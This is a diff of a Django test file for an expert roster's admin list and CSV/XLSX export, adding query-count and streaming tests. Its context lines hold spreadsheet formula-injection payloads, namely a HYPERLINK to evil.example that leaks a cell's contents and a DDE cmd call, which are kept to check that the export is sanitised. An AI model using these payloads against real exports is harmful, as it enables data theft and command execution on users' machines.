@@ -18,6 +18,10 @@ from tests.test_experts_staff import ROSTER_MANAGERS, make_expert, staff
 pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("experts_env")]
 
 CSV_FORMAT, XLSX_FORMAT = "0", "1"
+# The roster list (staff session, permissions, filters, one page, counts).
+LIST_QUERIES = 13
+# The export page, then the export: one chunk of 100 experts with its prefetches.
+EXPORT_QUERIES = 21
 ATTACKS = {
     "organisation": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "position": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -40,7 +44,9 @@ def export(client, language="en", fmt=CSV_FORMAT):
     response = client.post(url, {"format": fmt, **dict.fromkeys(fields, "on")})
     assert response.status_code == 200
     if fmt == CSV_FORMAT:
-        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        assert response.streaming  # written row by row, never the whole roster in memory
+        content = b"".join(response.streaming_content)
+        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
     sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
     return [list(row) for row in sheet.iter_rows()]
 
@@ -152,3 +158,32 @@ def test_the_export_page_has_no_inline_script_or_style(manager_client, language)
     with translation.override(language):
         label = str(Expert._meta.get_field("family_name").verbose_name).capitalize()
     assert label in html  # column choices are labelled in the page language too
+
+
+# At scale: the list and the export cost the same number of queries for 3 or 60 experts.
+
+
+def make_experts(count):
+    for number in range(count):
+        expert = make_expert(email=f"expert-{number}@example.org")
+        expert.languages.create(language="en", level="fluent")
+
+
+@pytest.mark.parametrize("count", [3, 60])
+def test_the_roster_list_costs_the_same_queries_however_many_experts(
+    manager_client, count, django_assert_num_queries
+):
+    make_experts(count)
+    with django_assert_num_queries(LIST_QUERIES):
+        response = manager_client.get(reverse("admin:experts_expert_changelist"))
+    assert response.status_code == 200
+
+
+@pytest.mark.parametrize("count", [3, 60])
+def test_the_csv_export_is_streamed_in_chunks_of_constant_queries(
+    manager_client, count, django_assert_num_queries
+):
+    make_experts(count)
+    with django_assert_num_queries(EXPORT_QUERIES):
+        rows = export(manager_client)
+    assert len(rows) == count + 1
